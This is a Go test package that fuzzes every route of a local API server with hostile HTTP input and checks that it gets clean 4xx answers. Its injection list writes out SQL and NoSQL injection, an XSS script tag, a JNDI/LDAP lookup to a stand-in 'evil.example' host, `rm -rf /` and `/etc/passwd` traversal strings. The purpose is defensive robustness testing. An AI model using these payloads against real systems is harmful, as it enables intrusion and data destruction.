// Package hostile sends hostile input to every route of the local API server
// (the built cmd/localapi, over HTTP, as a client would): oversized and deeply
// nested JSON, wrong types, NUL and invalid UTF-8, very long headers, paths,
// ids and query strings, thousands of cookies, usernames that fold to an
// existing one under Unicode rules, injection-looking strings, forged
// X-Forwarded-For and tokens in every wrong place. Every answer is a 4xx in
// the route's envelope (API.md), never a 5xx, and the server logs no panic.
package hostile

import (
	"bufio"
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/zenithfresh/zenith-serverless/shared/apitest"
	"github.com/zenithfresh/zenith-serverless/shared/config"
	"github.com/zenithfresh/zenith-serverless/shared/dynamotest"
	"github.com/zenithfresh/zenith-serverless/tests/localserver"
)

const (
	adminUser = "hostile_admin"
	staffUser = "hostile_staff"
)

// server is the local API server under attack and the credentials of the run.
type server struct {
	*localserver.Server
	client   *http.Client
	password map[string]string
	admin    string // master_admin token
	staff    string // staff_tester token
}

// shared is the one server every test of the package attacks; TestMain stops it.
var (
	sharedOnce sync.Once
	shared     *server
	sharedErr  error
	stopShared = func() {}
)

func TestMain(m *testing.M) {
	code := m.Run()
	stopShared()
	os.Exit(code)
}

// start returns the package's server, starting it on first use: the built
// localapi on this run's DynamoDB Local with its own tables, an admin and a
// staff user logged in.
func start(t *testing.T) *server {
	t.Helper()
	endpoint := dynamotest.Endpoint(t)
	sharedOnce.Do(func() { shared, sharedErr = startServer(endpoint, t) })
	if sharedErr != nil {
		t.Fatal(sharedErr)
	}
	return shared
}

func startServer(endpoint string, t *testing.T) (*server, error) {
	dir, err := os.MkdirTemp("", "hostile-")
	if err != nil {
		return nil, err
	}
	bin, err := localserver.Build(context.Background(), dir)
	if err != nil {
		return nil, err
	}
	s := &server{client: &http.Client{Timeout: 60 * time.Second}, password: map[string]string{
		adminUser: apitest.RandomPassword(t), staffUser: apitest.RandomPassword(t)}}
	env := config.DefaultTables.WithPrefix("h" + apitest.RandomHex(t, 4) + "-").Env()
	for k, v := range map[string]string{
		"DYNAMODB_ENDPOINT": endpoint, "MASTER_USERNAME": adminUser, "MASTER_PASSWORD": s.password[adminUser],
		// Generous quotas: the requests must reach the routes' own checks, not the limiter.
		"RATE_LIMIT_RPM": "600", "RATE_LIMIT_BURST": "60000", "RATE_LIMIT_API_RPM": "600", "RATE_LIMIT_API_BURST": "60000",
	} {
		env[k] = v
	}
	ctx, cancel := context.WithCancel(context.Background())
	if s.Server, err = localserver.Start(ctx, bin, env); err != nil {
		cancel()
		return nil, err
	}
	stopShared = func() { _ = s.Stop(); cancel(); os.RemoveAll(dir) }
	s.admin = s.login(t, adminUser, s.password[adminUser])
	res := s.send(t, req{method: "POST", path: "/api/auth/users", token: s.admin,
		body: jsonBody(map[string]any{"username": staffUser, "password": s.password[staffUser], "role": "staff_tester", "name": "Staff"})})
	if res.status != http.StatusCreated {
		return nil, fmt.Errorf("create %s: %d %s", staffUser, res.status, res.raw)
	}
	s.staff = s.login(t, staffUser, s.password[staffUser])
	return s, nil
}

func (s *server) login(t *testing.T, user, password string) string {
	t.Helper()
	res := s.send(t, req{method: "POST", path: "/api/auth", body: jsonBody(map[string]any{"action": "login", "username": user, "password": password})})
	tok, _ := res.body["session"].(map[string]any)["id"].(string)
	if res.status != http.StatusOK || tok == "" {
		t.Fatalf("login %s: %d %s", user, res.status, res.raw)
	}
	return tok
}

// req is one hostile request.
type req struct {
	method, path string // path may carry a raw query
	body         []byte
	contentType  string // application/json when empty and a body is sent
	token        string // sent as Authorization: Bearer
	headers      map[string]string
	rawHeaders   [][2]string // repeated or odd headers, sent as given
	// wire sends the request as written, byte for byte, over a bare TCP
	// connection: for control characters net/http's client refuses to send.
	wire bool
}

type resp struct {
	status int
	header http.Header
	raw    string
	body   map[string]any
}

func (s *server) send(t *testing.T, r req) resp {
	t.Helper()
	if r.wire {
		return s.sendWire(t, r)
	}
	var rd io.Reader
	if r.body != nil {
		rd = bytes.NewReader(r.body)
	}
	hr, err := http.NewRequest(r.method, s.URL+r.path, rd)
	if err != nil {
		t.Fatalf("%s %s: %v", r.method, r.path, err)
	}
	if r.body != nil {
		ct := r.contentType
		if ct == "" {
			ct = "application/json"
		}
		hr.Header.Set("Content-Type", ct)
	}
	if r.token != "" {
		hr.Header.Set("Authorization", "Bearer "+r.token)
	}
	for k, v := range r.headers {
		hr.Header.Set(k, v)
	}
	for _, kv := range r.rawHeaders {
		hr.Header.Add(kv[0], kv[1])
	}
	res, err := s.client.Do(hr)
	if err != nil {
		t.Fatalf("%s %.80s: %v", r.method, r.path, err)
	}
	defer res.Body.Close()
	raw, _ := io.ReadAll(res.Body)
	out := resp{status: res.StatusCode, header: res.Header, raw: string(raw)}
	_ = json.Unmarshal(raw, &out.body)
	return out
}

// sendWire writes r as raw HTTP/1.1 on its own connection and reads the answer.
func (s *server) sendWire(t *testing.T, r req) resp {
	t.Helper()
	host := strings.TrimPrefix(s.URL, "http://")
	conn, err := net.DialTimeout("tcp", host, 10*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(60 * time.Second))
	var b bytes.Buffer
	fmt.Fprintf(&b, "%s %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n", r.method, r.path, host)
	if r.token != "" {
		fmt.Fprintf(&b, "Authorization: Bearer %s\r\n", r.token)
	}
	for k, v := range r.headers {
		fmt.Fprintf(&b, "%s: %s\r\n", k, v)
	}
	for _, kv := range r.rawHeaders {
		fmt.Fprintf(&b, "%s: %s\r\n", kv[0], kv[1])
	}
	if r.body != nil {
		ct := r.contentType
		if ct == "" {
			ct = "application/json"
		}
		fmt.Fprintf(&b, "Content-Type: %s\r\nContent-Length: %d\r\n", ct, len(r.body))
	}
	b.WriteString("\r\n")
	b.Write(r.body)
	if _, err := conn.Write(b.Bytes()); err != nil {
		t.Fatal(err)
	}
	res, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		t.Fatalf("%s %.80q: read answer: %v", r.method, r.path, err)
	}
	defer res.Body.Close()
	raw, _ := io.ReadAll(res.Body)
	out := resp{status: res.StatusCode, header: res.Header, raw: string(raw)}
	_ = json.Unmarshal(raw, &out.body)
	return out
}

func jsonBody(v any) []byte {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err)
	}
	return b
}

// endpoint is one route and method of API.md.
type endpoint struct {
	method, path string
	auth         bool     // needs a session: the hostile request carries the admin token
	body         bool     // reads a JSON body
	fields       []string // the body's fields, for wrong types and injections
	public       bool     // answers without a session
}

func endpoints() []endpoint {
	return []endpoint{
		{method: "POST", path: "/api/auth", body: true, public: true, fields: []string{"action", "username", "password", "sessionId"}},
		{method: "GET", path: "/api/auth", public: true},
		{method: "GET", path: "/api/auth/users", auth: true},
		{method: "POST", path: "/api/auth/users", auth: true, body: true, fields: []string{"username", "password", "role", "name"}},
		{method: "PATCH", path: "/api/auth/users/" + staffUser, auth: true, body: true, fields: []string{"role", "name", "active", "password"}},
		{method: "DELETE", path: "/api/auth/users/nobody_here", auth: true},
		{method: "GET", path: "/api/sessions", auth: true},
		{method: "DELETE", path: "/api/sessions/0000000000000000", auth: true},
		{method: "GET", path: "/api/sessions/count", auth: true},
		{method: "GET", path: "/api/traffic-manager", public: true},
		{method: "POST", path: "/api/traffic-manager", auth: true, body: true, fields: []string{"simulateLoad", "connections", "load"}},
		{method: "GET", path: "/api/system-monitor", auth: true},
		{method: "POST", path: "/api/system-monitor", auth: true, body: true, fields: []string{"requests", "performance"}},
		{method: "POST", path: "/api/system-monitor/alerts/nope/acknowledge", auth: true},
		{method: "GET", path: "/api/health", public: true},
	}
}

// hostileCase is one attack on one endpoint; ok, when set, allows a 2xx (an
// input that is odd but valid, e.g. a junk header on a public route).
type hostileCase struct {
	name string
	r    req
	ok   bool
	// gateway: the answer comes from API Gateway itself (outside the
	// contract): {"message": ...}, e.g. a body over 10 MB.
	gateway bool
	// want, when set, is the exact status.
	want int
}

// badQueries are values of the parameters a route reads that it must refuse.
var badQueries = map[string][]string{
	"GET /api/system-monitor": {
		"endpoint=" + strings.Repeat("x", 10000), "endpoint=overview%00", "endpoint=history&hours=99999999999999999999999",
		"endpoint=history&hours=-1", "endpoint=history&hours=2x", "endpoint=history&hours=169", "endpoint=history&hours=1&hours=2",
	},
	"GET /api/traffic-manager": {"status=TRUE%00", "status=" + strings.Repeat("t", 5000), "status=", "status=1", "status=true&status=false"},
	"GET /api/sessions": {
		"limit=-1", "limit=" + strings.Repeat("9", 400), "limit=abc", "cursor=" + strings.Repeat("A", 5000),
		"cursor=" + base64.StdEncoding.EncodeToString([]byte(`{"pk":"x","userId":"hostile_admin"}`)), "cursor=%00",
	},
	"GET /api/auth/users": {"limit=-1", "limit=abc", "cursor=" + strings.Repeat("A", 5000), "cursor=" + base64.StdEncoding.EncodeToString([]byte(`{"pk":{"S":"x"}}`))},
	"GET /api/auth":       {"sessionId=" + strings.Repeat("s", 5000), "sessionId=session_1_%00", "sessionId=" + url.QueryEscape(injections[0])},
}

const (
	kib = 1 << 10
	mib = 1 << 20
)

// nested returns a JSON object nested depth levels deep.
func nested(depth int) []byte {
	return []byte(`{"a":` + strings.Repeat(`{"a":`, depth) + `1` + strings.Repeat(`}`, depth+1))
}

// injections are strings that look like attacks on a store, a template, a shell or a browser.
var injections = []string{
	`' OR '1'='1' --`, `"; DROP TABLE users; --`, `{"$gt":""}`, `${jndi:ldap://evil.example/a}`, `{{7*7}}`, `<script>alert(1)</script>`,
	`../../../../etc/passwd`, "`rm -rf /`", `%00`, `\u0000`, `attribute_exists(pk)`, `#pk = :v OR 1=1`,
}

// folded are usernames that are the admin's under some Unicode or case folding.
var folded = []string{
	"HOSTILE_ADMIN", "Hostile_Admin", "hostİle_admin", "HOSTİLE_ADMİN", "hostıle_admin", "ｈｏｓｔｉｌｅ＿ａｄｍｉｎ",
	"hostile_admin\u200b", "hostile_adm\u0131n", "hostile_ad\u217Fin", "hostile_admin\u0000", " hostile_admin", "hostile_admin ",
}

func cases(s *server, ep endpoint) []hostileCase {
	tok := ""
	if ep.auth {
		tok = s.admin
	}
	base := func(name string) req {
		return req{method: ep.method, path: ep.path, token: tok, headers: map[string]string{}}
	}
	with := func(name string, mut func(r *req)) hostileCase {
		r := base(name)
		mut(&r)
		return hostileCase{name: name, r: r}
	}
	var cs []hostileCase
	if ep.body {
		bodies := map[string][]byte{
			"empty body":                 {},
			"null":                       []byte(`null`),
			"array":                      []byte(`[]`),
			"string":                     []byte(`"x"`),
			"number":                     []byte(`1e999`),
			"truncated":                  []byte(`{"a":`),
			"64 KiB + 1":                 append([]byte(`{"x":"`), append(bytes.Repeat([]byte("a"), 64*kib), '"', '}')...),
			"1 MiB":                      append([]byte(`{"x":"`), append(bytes.Repeat([]byte("a"), mib), '"', '}')...),
			"5 MiB":                      append([]byte(`{"x":"`), append(bytes.Repeat([]byte("a"), 5*mib), '"', '}')...),
			"nested 5000":                nested(5000),
			"nested arrays 30000":        []byte(strings.Repeat("[", 30000) + strings.Repeat("]", 30000)),
			"nested in a field":          []byte(`{"` + ep.fields[0] + `":` + string(nested(3000)) + `}`),
			"NUL bytes":                  []byte("{\"" + ep.fields[0] + "\":\"a\x00b\"}"),
			"escaped NUL":                []byte(`{"` + ep.fields[0] + `":"a\u0000b"}`),
			"invalid UTF-8":              []byte("{\"" + ep.fields[0] + "\":\"\xff\xfe\xfd\"}"),
			"invalid UTF-8 key":          []byte("{\"\xff\":1}"),
			"lone surrogate":             []byte(`{"` + ep.fields[0] + `":"\ud800"}`),
			"unknown field":              []byte(`{"__proto__":{"admin":true}}`),
			"duplicate keys":             []byte(`{"` + ep.fields[0] + `":1,"` + ep.fields[0] + `":2}`),
			"huge number":                []byte(`{"` + ep.fields[0] + `":1` + strings.Repeat("0", 5000) + `}`),
			"many fields":                []byte(`{` + strings.TrimSuffix(strings.Repeat(`"f":1,`, 5000), ",") + `}`),
			"trailing garbage":           []byte(`{} {}`),
			"BOM":                        []byte("\xef\xbb\xbf{}"),
			"whitespace only":            []byte(" \n\t "),
			"form body (base64)":         []byte("action=login&username=" + adminUser),
			"text/plain JSON wrong type": []byte(`{"` + ep.fields[0] + `":[true]}`),
		}
		for name, b := range bodies {
			c := with(name, func(r *req) { r.body = b })
			switch name {
			case "64 KiB + 1", "1 MiB", "5 MiB":
				c.want = http.StatusRequestEntityTooLarge
			case "9 MiB":
				// Over Lambda's 6 MB event limit: API Gateway answers 413 itself,
				// outside the contract's envelopes (README), as the local gateway does.
				c.want, c.gateway = http.StatusRequestEntityTooLarge, true
			case "form body (base64)":
				c.r.contentType = "application/x-www-form-urlencoded"
			case "text/plain JSON wrong type":
				c.r.contentType = "text/plain"
			}
			cs = append(cs, c)
		}
		// Every field of the wrong type, and every field an injection.
		for _, v := range []any{nil, true, 12345678901234567890.0, -1, []any{"x"}, map[string]any{"$ne": nil}, strings.Repeat("x", 70*kib/2)} {
			fields := map[string]any{}
			for _, f := range ep.fields {
				fields[f] = v
			}
			cs = append(cs, with(fmt.Sprintf("every field %T", v), func(r *req) { r.body = jsonBody(fields) }))
		}
		for i, inj := range injections {
			fields := map[string]any{}
			for _, f := range ep.fields {
				fields[f] = inj
			}
			cs = append(cs, with(fmt.Sprintf("injection %d", i), func(r *req) { r.body = jsonBody(fields) }))
		}
		// Over Lambda's 6 MB event or HTTP API's 10 MB payload: API Gateway's own 413.
		for _, n := range []int{7 * mib, 10*mib + 1} {
			cs = append(cs, hostileCase{name: fmt.Sprintf("%d bytes (API Gateway's own 413)", n), gateway: true, want: http.StatusRequestEntityTooLarge,
				r: req{method: ep.method, path: ep.path, token: tok, body: bytes.Repeat([]byte("a"), n)}})
		}
	}

	// Queries: junk a route ignores (any answer but a 5xx), and bad values of
	// the parameters it reads (a 4xx).
	junk := []string{
		strings.Repeat("a=1&", 5000) + "b=2", "%zz=%zz", "x=" + strings.Repeat("%ff", 2000), "x=%00", "=&=&&",
		"sessionId=" + strings.Repeat("s", 5000), "userId=" + url.QueryEscape(injections[0]),
	}
	for i, q := range junk {
		c := with(fmt.Sprintf("junk query %d", i), func(r *req) { r.path = ep.path + "?" + q })
		c.ok = !ep.body
		if ep.body {
			c.r.body = []byte(`{"definitelyNotAField":1}`) // the answer stays a 4xx whatever the query does
		}
		cs = append(cs, c)
	}
	for i, q := range badQueries[ep.method+" "+ep.path] {
		cs = append(cs, with(fmt.Sprintf("bad query %d", i), func(r *req) { r.path = ep.path + "?" + q }))
	}
	// Paths and ids.
	for i, p := range []string{
		"/" + strings.Repeat("x", 10000), "/%00", "/..%2f..%2f", "/%2e%2e/%2e%2e/etc/passwd", "/" + strings.Repeat("%ff", 300),
		"/session_1_" + strings.Repeat("a", 64),
	} {
		cs = append(cs, with(fmt.Sprintf("path %d", i), func(r *req) { r.path = ep.path + p }))
	}
	// A trailing slash is the route itself; a dot segment is another path.
	for i, p := range []string{"//", "/./", "/"} {
		c := with(fmt.Sprintf("odd path %d", i), func(r *req) { r.path = ep.path + p })
		c.ok = !ep.body
		if ep.body {
			c.r.body = []byte(`{"definitelyNotAField":1}`)
		}
		cs = append(cs, c)
	}
	// NUL and raw control bytes in the path and the query, as sent on the wire.
	for i, p := range []string{"/\x00", "?x=\x00", "/\x01\x02", "?q=\xff\xfe"} {
		c := with(fmt.Sprintf("raw bytes %d", i), func(r *req) { r.path = ep.path + p; r.wire = true })
		c.gateway = true // the server's own 400 for a malformed request line, or the route's own answer
		c.ok = !ep.body
		if ep.body {
			c.r.body = []byte(`{"definitelyNotAField":1}`)
		}
		cs = append(cs, c)
	}
	// Headers and cookies.
	junkAuth := []string{
		"Bearer " + strings.Repeat("a", 8000), "Bearer session_1_" + strings.Repeat("!", 50), "Bearer", "Bearer ",
		"Basic " + base64.StdEncoding.EncodeToString([]byte(adminUser+":"+s.password[adminUser])), "Digest x", s.staff,
		"Bearer " + s.staff + " extra", "Bearer session_0_" + strings.Repeat("A", 60),
	}
	for i, a := range junkAuth {
		c := with(fmt.Sprintf("authorization %d", i), func(r *req) { r.token = ""; r.headers["Authorization"] = a })
		c.ok = ep.public && !ep.body
		if ep.body {
			c.r.body = []byte(`{"definitelyNotAField":1}`)
		}
		cs = append(cs, c)
	}
	cookies := make([]string, 3000)
	for i := range cookies {
		cookies[i] = fmt.Sprintf("c%d=%d", i, i)
	}
	manySessions := make([]string, 500)
	for i := range manySessions {
		manySessions[i] = "zenith_session=session_" + strconv.Itoa(i) + "_" + strings.Repeat("Z", 60)
	}
	for name, h := range map[string][2]string{
		"3000 cookies":                  {"Cookie", strings.Join(cookies, "; ")},
		"500 session cookies":           {"Cookie", strings.Join(manySessions, "; ")},
		"cookie junk":                   {"Cookie", ";;;=;==;zenith_session;zenith_session=;" + strings.Repeat("\x7f", 100)},
		"long user agent":               {"User-Agent", strings.Repeat("Mozilla ", 8*kib/8)},
		"long origin":                   {"Origin", "https://" + strings.Repeat("a", 8000) + ".example"},
		"forged X-Forwarded-For":        {"X-Forwarded-For", "127.0.0.1, 10.0.0.1, ::1"},
		"X-Forwarded-For 1000 hops":     {"X-Forwarded-For", strings.TrimSuffix(strings.Repeat("10.0.0.1, ", 1000), ", ")},
		"X-Forwarded-For garbage":       {"X-Forwarded-For", strings.Repeat("not-an-ip,", 500)},
		"content-length lies (ignored)": {"X-Content-Length", "99999999999"},
	} {
		c := with(name, func(r *req) { r.rawHeaders = append(r.rawHeaders, h) })
		if name == "cookie junk" {
			c.r.wire = true // a DEL byte: net/http's client refuses it; the server answers 400 itself
			c.gateway, c.want = true, http.StatusBadRequest
		}
		c.ok = !ep.body && (ep.public || ep.auth) // a junk header on a good request changes nothing
		if ep.body {
			c.r.body = []byte(`{"definitelyNotAField":1}`)
		}
		if strings.Contains(name, "cookie") && ep.auth {
			c.r.token, c.ok = "", false // no bearer: the cookies are all there is, and none is a session
		}
		cs = append(cs, c)
	}
	cs = append(cs, hostileCase{name: "headers over 1 MB (the server's own 431)", gateway: true, want: http.StatusRequestHeaderFieldsTooLarge,
		r: req{method: ep.method, path: ep.path, rawHeaders: [][2]string{{"X-Junk", strings.Repeat("j", 1100*kib)}}}})
	// Other methods.
	for _, m := range []string{"PUT", "TRACE", "FOO"} {
		cs = append(cs, with("method "+m, func(r *req) { r.method = m }))
	}
	return cs
}

// checkAnswer reports how an answer departs from the contract.
func checkAnswer(c hostileCase, method, path string, res resp) []string {
	var bad []string
	switch {
	case res.status >= 500:
		bad = append(bad, fmt.Sprintf("5xx: %d %.300s", res.status, res.raw))
	case c.want != 0 && res.status != c.want:
		bad = append(bad, fmt.Sprintf("status %d, want %d: %.300s", res.status, c.want, res.raw))
	case res.status < 400 && !c.ok:
		bad = append(bad, fmt.Sprintf("status %d, want a 4xx: %.300s", res.status, res.raw))
	}
	if c.gateway {
		return bad
	}
	if method == "HEAD" {
		return bad
	}
	if res.header.Get("X-Request-ID") == "" || res.header.Get("Cache-Control") == "" || !strings.HasPrefix(res.header.Get("Content-Type"), "application/json") {
		bad = append(bad, fmt.Sprintf("headers X-Request-ID %q, Cache-Control %q, Content-Type %q", res.header.Get("X-Request-ID"), res.header.Get("Cache-Control"), res.header.Get("Content-Type")))
	}
	if res.body == nil {
		return append(bad, fmt.Sprintf("body is not a JSON object: %.300s", res.raw))
	}
	if id, _ := res.body["requestId"].(string); id == "" || id != res.header.Get("X-Request-ID") {
		bad = append(bad, fmt.Sprintf("requestId %v vs X-Request-ID %q", res.body["requestId"], res.header.Get("X-Request-ID")))
	}
	if res.status >= 400 {
		if err := envelope(method, path, res.body); err != nil {
			bad = append(bad, fmt.Sprintf("%v: %.300s", err, res.raw))
		}
	}
	return bad
}

// routedTo is the base path of the function template.yaml routes a path to
// (ANY <base> and ANY <base>/{proxy+}, which needs a segment), "" for $default (auth).
func routedTo(path string) string {
	for _, base := range []string{"/api/auth", "/api/sessions", "/api/traffic-manager", "/api/system-monitor", "/api/health"} {
		if path == base || (strings.HasPrefix(path, base+"/") && len(path) > len(base)+1) {
			return base
		}
	}
	return ""
}

// envelope checks an error body against API.md's envelope of its route and method.
func envelope(method, path string, body map[string]any) error {
	code, _ := body["code"].(string)
	if code == "" {
		return fmt.Errorf("no code")
	}
	p, _, _ := strings.Cut(path, "?")
	if u, err := url.PathUnescape(p); err == nil {
		p = u
	}
	base := routedTo(p)
	switch {
	case method == "GET" && base == "/api/system-monitor":
		if e, _ := body["error"].(string); e == "" || body["timestamp"] == nil || body["success"] != nil {
			return fmt.Errorf("not the monitor envelope")
		}
	case method == "GET" && base == "/api/traffic-manager":
		if body["error"] != true || body["message"] == nil || body["timestamp"] == nil {
			return fmt.Errorf("not the traffic envelope")
		}
	case base == "/api/health":
	default:
		if e, _ := body["error"].(string); body["success"] != false || e == "" {
			return fmt.Errorf("not the standard envelope")
		}
	}
	return nil
}

// TestHostileInputOnEveryRoute sends every hostile case to every route.
func TestHostileInputOnEveryRoute(t *testing.T) {
	s := start(t)
	var total, failed int
	var mu sync.Mutex
	sem := make(chan struct{}, 4)
	for _, ep := range endpoints() {
		t.Run(ep.method+" "+ep.path, func(t *testing.T) {
			var wg sync.WaitGroup
			for _, c := range cases(s, ep) {
				wg.Add(1)
				sem <- struct{}{}
				go func() {
					defer wg.Done()
					defer func() { <-sem }()
					res := s.send(t, c.r)
					bad := checkAnswer(c, c.r.method, c.r.path, res)
					mu.Lock()
					total++
					if len(bad) > 0 {
						failed++
					}
					mu.Unlock()
					for _, b := range bad {
						t.Errorf("%s: %s", c.name, b)
					}
				}()
			}
			wg.Wait()
		})
	}
	checkServerLog(t, s)
	t.Logf("%d hostile requests, %d answered outside the contract", total, failed)
}

// checkServerLog fails t for any panic or internal error the server logged.
func checkServerLog(t *testing.T, s *server) {
	t.Helper()
	for _, line := range s.Logs().Lines() {
		l := strings.ToLower(line)
		if strings.Contains(l, "panic") || strings.Contains(line, "internal error") || strings.Contains(line, "function failed") ||
			strings.Contains(line, "bad function response") || strings.Contains(line, "level=ERROR") || strings.Contains(line, `"level":"ERROR"`) {
			t.Errorf("server log: %.500s", line)
		}
	}
}

// TestTokensInTheWrongPlace: a valid session token sent anywhere but the
// body's sessionId (auth POST), Authorization: Bearer, the zenith_session
// cookie or GET /api/auth's ?sessionId= authenticates nothing.
func TestTokensInTheWrongPlace(t *testing.T) {
	s := start(t)
	tok := s.staff
	protected := []req{
		{method: "GET", path: "/api/sessions"},
		{method: "GET", path: "/api/system-monitor"},
		{method: "GET", path: "/api/sessions/count"},
	}
	places := map[string]func(r req) req{
		"query sessionId": func(r req) req { r.path += "?sessionId=" + tok; return r },
		"query token":     func(r req) req { r.path += "?token=" + tok; return r },
		"path":            func(r req) req { r.path += "/" + tok; return r },
		"X-Session-Id":    func(r req) req { r.headers = map[string]string{"X-Session-Id": tok}; return r },
		"no scheme":       func(r req) req { r.headers = map[string]string{"Authorization": tok}; return r },
		"Basic":           func(r req) req { r.headers = map[string]string{"Authorization": "Basic " + tok}; return r },
		"Token scheme":    func(r req) req { r.headers = map[string]string{"Authorization": "Token " + tok}; return r },
		"other cookie":    func(r req) req { r.headers = map[string]string{"Cookie": "session=" + tok}; return r },
		"cookie prefix":   func(r req) req { r.headers = map[string]string{"Cookie": "xzenith_session=" + tok}; return r },
		"X-Forwarded-For": func(r req) req { r.headers = map[string]string{"X-Forwarded-For": tok}; return r },
		"Referer": func(r req) req {
			r.headers = map[string]string{"Referer": "https://app.example/?sessionId=" + tok}
			return r
		},
	}
	for _, p := range protected {
		for name, place := range places {
			res := s.send(t, place(p))
			if res.status != http.StatusUnauthorized && res.status != http.StatusNotFound && res.status != http.StatusMethodNotAllowed {
				t.Errorf("%s %s with the token in %s: %d %.200s (want 401, or 404/405 for a path)", p.method, p.path, name, res.status, res.raw)
			}
		}
	}
	// In a body that is not auth's: an unknown field, never a session.
	res := s.send(t, req{method: "POST", path: "/api/traffic-manager", body: jsonBody(map[string]any{"sessionId": tok, "simulateLoad": false})})
	if res.status != http.StatusUnauthorized && res.status != http.StatusBadRequest {
		t.Errorf("POST /api/traffic-manager with the token in the body: %d %s", res.status, res.raw)
	}
	// A cookie-authenticated unsafe request without an allowed Origin is a CSRF.
	res = s.send(t, req{method: "DELETE", path: "/api/sessions", headers: map[string]string{"Cookie": "zenith_session=" + tok}})
	if res.status != http.StatusForbidden || res.body["code"] != "CSRF_REJECTED" {
		t.Errorf("DELETE /api/sessions with the cookie and no Origin: %d %s", res.status, res.raw)
	}
	// The staff token still works where it belongs (the cases above changed nothing).
	if res := s.send(t, req{method: "GET", path: "/api/sessions", token: tok}); res.status != http.StatusOK {
		t.Errorf("the token in its place afterwards: %d %s", res.status, res.raw)
	}
	checkServerLog(t, s)
}

// TestFoldedUsernames: usernames that fold to the admin's under case or
// Unicode rules can neither be created nor log in as the admin.
func TestFoldedUsernames(t *testing.T) {
	s := start(t)
	for _, u := range folded {
		res := s.send(t, req{method: "POST", path: "/api/auth/users", token: s.admin,
			body: jsonBody(map[string]any{"username": u, "password": apitest.RandomPassword(t), "role": "master_admin", "name": "Evil"})})
		if res.status != http.StatusBadRequest && res.status != http.StatusConflict {
			t.Errorf("create user %q: %d %s (want 400 or 409 USER_EXISTS)", u, res.status, res.raw)
		}
		res = s.send(t, req{method: "POST", path: "/api/auth", body: jsonBody(map[string]any{"action": "login", "username": u, "password": s.password[adminUser]})})
		switch {
		case u == strings.ToUpper(adminUser) || u == "Hostile_Admin":
			// ASCII case folds by the contract (usernames are unique case-insensitively): the same user.
			if res.status != http.StatusOK {
				t.Errorf("login as %q (the admin, case-insensitively): %d %s", u, res.status, res.raw)
			}
		case res.status == http.StatusOK:
			t.Errorf("login as %q with the admin's password succeeded: %s", u, res.raw)
		case res.status >= 500:
			t.Errorf("login as %q: %d %s", u, res.status, res.raw)
		}
	}
	// Logged in through a folded name, the session is the admin's own, not a new user's.
	res := s.send(t, req{method: "GET", path: "/api/auth/users", token: s.admin})
	if res.status != http.StatusOK {
		t.Fatalf("list users: %d %s", res.status, res.raw)
	}
	if users, _ := res.body["users"].([]any); len(users) != 2 {
		t.Errorf("%d users after the folded attempts, want 2 (admin and staff): %s", len(users), res.raw)
	}
	checkServerLog(t, s)
}

// TestForgedForwardedForSharesOneBucket: with no trusted proxy, a client that
// writes a new X-Forwarded-For on every request still spends one bucket (its
// own address's).
func TestForgedForwardedForSharesOneBucket(t *testing.T) {
	s := start(t)
	first := -1
	last := 0
	for i := range 30 {
		res := s.send(t, req{method: "GET", path: "/api/traffic-manager", headers: map[string]string{"X-Forwarded-For": fmt.Sprintf("203.0.113.%d", i+1)}})
		n, err := strconv.Atoi(res.header.Get("X-RateLimit-Remaining"))
		if res.status != http.StatusOK || err != nil {
			t.Fatalf("front door: %d %s (remaining %q)", res.status, res.raw, res.header.Get("X-RateLimit-Remaining"))
		}
		if first < 0 {
			first = n
		}
		last = n
	}
	// 29 more requests from one bucket, refilled at 10 per second at most.
	if last > first-20 {
		t.Errorf("X-RateLimit-Remaining went from %d to %d over 30 requests with 30 forged X-Forwarded-For: each forged address got its own bucket", first, last)
	}
}

// TestFieldNamesAreExact: {"ACTION":"login","USERNAME":…,"PASSWORD":…} with
// the admin's real password is an unknown-field 400, and a duplicate key a
// 400 VALIDATION_ERROR (API.md, "Callers and credentials").
func TestFieldNamesAreExact(t *testing.T) {
	s := start(t)
	for name, body := range map[string]string{
		"upper-case keys": fmt.Sprintf(`{"ACTION":"login","USERNAME":%q,"PASSWORD":%q}`, adminUser, s.password[adminUser]),
		"mixed-case keys": fmt.Sprintf(`{"Action":"login","UserName":%q,"Password":%q}`, adminUser, s.password[adminUser]),
		"duplicate key":   fmt.Sprintf(`{"action":"validate","action":"login","username":%q,"password":%q}`, adminUser, s.password[adminUser]),
	} {
		res := s.send(t, req{method: "POST", path: "/api/auth", body: []byte(body)})
		if res.status != http.StatusBadRequest || res.body["code"] != "VALIDATION_ERROR" {
			t.Errorf("%s: %d %s, want 400 VALIDATION_ERROR", name, res.status, res.raw)
		}
	}
}

// TestCrossSiteLoginIsRejected: a login carrying a foreign Origin (a form on
// another site, text/plain) is 403 CSRF_REJECTED.
func TestCrossSiteLoginIsRejected(t *testing.T) {
	s := start(t)
	body := fmt.Sprintf(`{"action":"login","username":%q,"password":%q}`, adminUser, s.password[adminUser])
	res := s.send(t, req{method: "POST", path: "/api/auth", body: []byte(body), contentType: "text/plain", headers: map[string]string{"Origin": "https://evil.example"}})
	if res.status != http.StatusForbidden || res.body["code"] != "CSRF_REJECTED" {
		t.Errorf("cross-site login: %d %s, want 403 CSRF_REJECTED", res.status, res.raw)
	}
}
